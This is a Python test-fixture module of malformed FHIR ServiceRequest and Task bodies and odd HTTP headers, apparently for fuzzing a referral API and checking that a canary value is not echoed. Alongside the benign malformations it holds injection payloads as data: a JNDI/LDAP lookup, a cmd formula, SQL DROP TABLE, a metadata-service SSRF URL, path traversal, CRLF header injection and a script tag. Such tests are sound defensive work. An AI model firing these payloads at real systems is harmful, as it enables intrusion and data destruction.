"""The zoo of awkward JSON: each body is wrong or odd in one way, and most carry a value that must never be said back."""

from __future__ import annotations

import json
from typing import Any

CANARY = "Gwdihw Zzcanary"
NHS = {"system": "https://fhir.nhs.uk/Id/nhs-number", "value": "9990000018"}


def body(kind: str, **changes: Any) -> bytes:  # Any: JSON
    """A sound body of one type, with elements changed, added, or (None) left out."""
    whole = {
        "ServiceRequest": {"resourceType": "ServiceRequest", "status": "active", "intent": "order", "subject": {"identifier": NHS}},
        "Task": {"resourceType": "Task", "id": "t-1", "status": "accepted", "intent": "order"},
    }[kind]
    made = whole | changes
    return json.dumps({name: value for name, value in made.items() if value is not _LEFT_OUT}).encode()


_LEFT_OUT = object()
_DEEP: Any = CANARY
for _ in range(70):
    _DEEP = {"extension": [_DEEP]}


def _raw(kind: str) -> dict[str, bytes]:
    sound = body(kind)
    return {
        "nothing at all": b"",
        "white space only": b" \n\t ",
        "not JSON": b"MSH|^~\\&|" + CANARY.encode(),
        "a list": b"[1, 2]",
        "a string": json.dumps(CANARY).encode(),
        "null": b"null",
        "a number": b"17",
        "true": b"true",
        "an empty object": b"{}",
        "cut off in the middle": sound[:-7],
        "something after the end": sound + b"{}",
        "a comma too many": sound[:-1] + b",}",
        "single quotes": sound.replace(b'"', b"'"),
        "a comment": b"// " + CANARY.encode() + b"\n" + sound,
        "a byte order mark": b"\xef\xbb\xbf" + sound,
        "UTF-16": sound.decode().encode("utf-16"),
        "Latin-1": body(kind, note=[{"text": "e"}]).replace(b'"e"', b'"\xe9"'),
        "an overlong UTF-8 form": sound.replace(b"order", b"ord\xc0\xafer"),
        "NaN": body(kind, x="@").replace(b'"@"', b"NaN"),
        "minus infinity": body(kind, x="@").replace(b'"@"', b"-Infinity"),
        "1e999": body(kind, x="@").replace(b'"@"', b"1e999"),
        "a number of 5,000 digits": body(kind, x="@").replace(b'"@"', b"9" * 5_000),
        "an exponent of 400 digits": body(kind, x="@").replace(b'"@"', b"1e" + b"9" * 400),
        "a leading zero": body(kind, x="@").replace(b'"@"', b"007"),
        "100,000 levels": b'{"a":' * 100_000,
        "100,000 lists": b"[" * 100_000,
        "70 levels": body(kind, extension=[_DEEP]),
        "6,000 keys": body(kind, **{f"k{number}": 1 for number in range(6_000)}),
        "a string of 70,000 characters": body(kind, note=[{"text": "x" * 70_000}]),
        "a body over the limit": body(kind, note=[{"text": "y" * 1_100_000}]),
        "a lone surrogate": body(kind, note=[{"text": "@"}]).replace(b'"@"', b'"\\ud800"'),
        "NUL in a string": body(kind, note=[{"text": "@"}]).replace(b'"@"', b'"a\\u0000b"'),
        "NUL between": sound.replace(b": ", b":\x00", 1),
        "a key twice": sound.replace(b'"intent"', b'"status": "revoked", "intent"'),
        "a key twice, far down": body(kind, meta={}).replace(b'"meta": {}', b'"meta": {"source": "a", "source": "b"}'),
        "a key that is somebody's name": body(kind, **{CANARY: "1"}),
        "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "' + CANARY.encode() + b'">]><ServiceRequest/>',
        "a form": b"resourceType=ServiceRequest&status=active",
    }


def _shaped(kind: str) -> dict[str, bytes]:
    return {
        "no resourceType": body(kind, resourceType=_LEFT_OUT),
        "resourceType a list": body(kind, resourceType=[kind]),
        "resourceType an object": body(kind, resourceType={"a": 1}),
        "resourceType null": body(kind, resourceType=None),
        "resourceType a name": body(kind, resourceType=CANARY),
        "resourceType in small letters": body(kind, resourceType=kind.lower()),
        "another resource": body(kind, resourceType="Observation"),
        "a bundle": body(kind, resourceType="Bundle"),
        "status a list": body(kind, status=["active"]),
        "status a number": body(kind, status=1),
        "status null": body(kind, status=None),
        "status unheard of": body(kind, status=CANARY),
        "status empty": body(kind, status=""),
        "status with spaces": body(kind, status=" active "),
        "no status": body(kind, status=_LEFT_OUT),
        "no intent": body(kind, intent=_LEFT_OUT),
        "everything wrong": body(kind, status=CANARY, intent=CANARY, priority=CANARY, authoredOn=CANARY, identifier=CANARY, code=CANARY),
        "every element an empty list": body(kind, status=[], intent=[], identifier=[], code=[], contained=[], note=[]),
        "every element an empty object": body(kind, status={}, intent={}, identifier={}, code={}, contained={}, note={}),
        "lists of nulls": body(kind, identifier=[None], note=[None], contained=[None], extension=[None]),
        "lists of lists": body(kind, identifier=[[]], note=[[CANARY]], contained=[[]]),
        "identifier values of other types": body(kind, identifier=[{"value": 7}, {"value": {"a": CANARY}}, {"system": [], "value": []}]),
        "id too long": body(kind, id="x" * 300),
        "id with a path": body(kind, id="../../admin"),
        "id with line ends": body(kind, id="a\r\nX-Injected: 1"),
        "id a number": body(kind, id=17),
        "a reference that is a number": body(kind, focus={"reference": 7}, subject={"reference": 7}),
        "a reference to itself": body(kind, contained=[{"resourceType": "Organization", "id": "o", "name": "o", "partOf": {"reference": "#o"}}]),
        "a reference to nothing": body(kind, requester={"reference": "#none"}),
        "a reference to the inside": body(kind, requester={"reference": "http://169.254.169.254/latest/meta-data"}),
        "a contained resource of no type": body(kind, contained=[{"id": "p", "name": CANARY}]),
        "a contained resource of an odd type": body(kind, contained=[{"resourceType": CANARY, "id": "p"}]),
        "contained within contained": body(kind, contained=[{"resourceType": "Patient", "id": "p", "contained": [{"resourceType": "Patient"}]}]),
        "40 contained resources of one id": body(kind, contained=[{"resourceType": "Patient", "id": "p"}] * 40),
        "an extension without a url": body(kind, extension=[{"valueString": CANARY}]),
        "an extension with two values": body(kind, extension=[{"url": "http://a.example", "valueString": CANARY, "valueCode": "b"}]),
        "an unknown modifierExtension": body(kind, modifierExtension=[{"url": "http://a.example", "valueString": CANARY}]),
        "modifierExtension an object": body(kind, modifierExtension={"url": CANARY}),
        "a script in the narrative": body(kind, text={"status": "generated", "div": f"<div><script>{CANARY}</script></div>"}),
        "notes in every wrong form": body(kind, note=[{"text": 5}, {"text": None}, {"text": ["a"]}, CANARY, 3]),
        "look-ups and formulas": body(kind, note=[{"text": "${jndi:ldap://a.example/b} =cmd|'/c calc'!A0 '; DROP TABLE referral; --"}]),
        "right to left and zero width": body(kind, note=[{"text": "\u202e\u200b\u200d\ufeff"}]),
        "a date that cannot be": body(kind, authoredOn="2026-02-31"),
        "a date before everything": body(kind, authoredOn="0000-00-00T00:00:00Z"),
        "a date beyond everything": body(kind, authoredOn="9999-12-31T23:59:60+14:00"),
        "a period that ends before it starts": body(kind, occurrencePeriod={"start": "2026-02-02", "end": "2026-01-01"}),
    }


def _of_requests() -> dict[str, bytes]:
    kind = "ServiceRequest"
    person = {"resourceType": "Patient", "id": "p", "name": [{"family": CANARY}]}
    odd = {"birthDate": 1948, "address": "x", "telecom": {}, "communication": [7], "deceasedBoolean": "no"}
    return {
        "no subject": body(kind, subject=_LEFT_OUT),
        "subject a string": body(kind, subject=CANARY),
        "subject a list": body(kind, subject=[{"identifier": NHS}]),
        "subject empty": body(kind, subject={}),
        "subject a group": body(kind, subject={"reference": "#p"}, contained=[{"resourceType": "Group", "id": "p"}]),
        "a name alone": body(kind, subject={"reference": "#p"}, contained=[person]),
        "a patient whose parts are of other types": body(kind, subject={"reference": "#p"}, contained=[person | odd]),
        "an NHS number that is a number": body(kind, subject={"identifier": NHS | {"value": 9990000018}}),
        "an NHS number in letters": body(kind, subject={"identifier": NHS | {"value": CANARY}}),
        "an option that is active": body(kind, intent="option"),
        "a draft": body(kind, status="draft"),
        "a shape of release 5": body(kind, code={"concept": {"text": CANARY}}, reason=[{"concept": {"text": CANARY}}]),
        "codes of other types": body(kind, code={"coding": [{"system": 1, "code": 2, "display": CANARY}]}, category={"coding": CANARY}),
        "another service": body(kind, code={"text": "Cardiology"}),
    }


def _of_tasks() -> dict[str, bytes]:
    return {
        "another id": body("Task", id="t-2"),
        "no id": body("Task", id=_LEFT_OUT),
        "an ending before the beginning": body("Task", authoredOn="2026-03-02T00:00:00Z", lastModified="2026-03-01T00:00:00Z"),
        "business status of another type": body("Task", businessStatus=CANARY),
        "business status unheard of": body("Task", businessStatus={"coding": [{"code": CANARY}]}),
        "a reason of another type": body("Task", status="rejected", statusReason=[CANARY]),
        "a reason unheard of": body("Task", status="rejected", statusReason={"coding": [{"code": CANARY}], "text": CANARY}),
        "an echo of every element": body("Task", description=CANARY, note=[{"text": CANARY}], **{"for": {"display": CANARY}}),
        **{f"the status {status}": body("Task", status=status) for status in ("draft", "requested", "received", "ready", "cancelled", "entered-in-error")},
    }


REQUESTS: dict[str, bytes] = _raw("ServiceRequest") | _shaped("ServiceRequest") | _of_requests()
TASKS: dict[str, bytes] = _raw("Task") | _shaped("Task") | _of_tasks()

GUID = "3f2a9c1e-5b7d-4c7e-9a55-0d6e2b1f8a43"
SOUND_HEADERS = {"content-type": "application/fhir+json", "x-request-id": GUID, "if-match": 'W/"3"'}
HEADERS: dict[str, dict[str, str]] = {
    "none": {},
    "an empty request id": {"x-request-id": ""},
    "a request id that is no GUID": {"x-request-id": "17"},
    "two request ids in one": {"x-request-id": f"{GUID}, {GUID}"},
    "a request id of 10 kB": {"x-request-id": "a" * 10_240},
    "a request id with line ends": {"x-request-id": f"{GUID}\r\nX-Injected: 1"},
    "a request id in braces": {"x-request-id": "{" + GUID + "}"},
    "an idempotency key in quotes": {"idempotency-key": f'"{GUID}"'},
    "a correlation id that is a name": {"x-correlation-id": CANARY},
    "no content type": {"content-type": ""},
    "XML": {"content-type": "application/xml"},
    "JSON in Latin-1": {"content-type": "application/fhir+json; charset=iso-8859-1"},
    "release 5": {"content-type": "application/fhir+json; fhirVersion=5.0"},
    "a broken content type": {"content-type": ";;;=,,,"},
    "two content types": {"content-type": "application/fhir+json, application/xml"},
    "an answer in XML": {"accept": "application/xml; version=9"},
    "an answer in release 5": {"accept": "application/fhir+json; fhirVersion=5.0"},
    "JSON not wanted": {"accept": "application/fhir+json;q=0"},
    "preferences without end": {"prefer": ";,=" * 3_000},
    "a version of letters": {"if-match": 'W/"abc"'},
    "any version": {"if-match": "*"},
    "two versions": {"if-match": 'W/"1", W/"2"'},
    "a version without end": {"if-match": 'W/"' + "9" * 5_000 + '"'},
    "a version in other digits": {"if-match": 'W/"٣"'},
    "a negative sequence": {"ce_id": "e", "ce_sequence": "-1"},
    "a sequence in other digits": {"ce_id": "e", "ce_sequence": "٣"},
    "an event id of 10 kB": {"ce_id": "e" * 10_240, "ce_sequence": "1"},
}
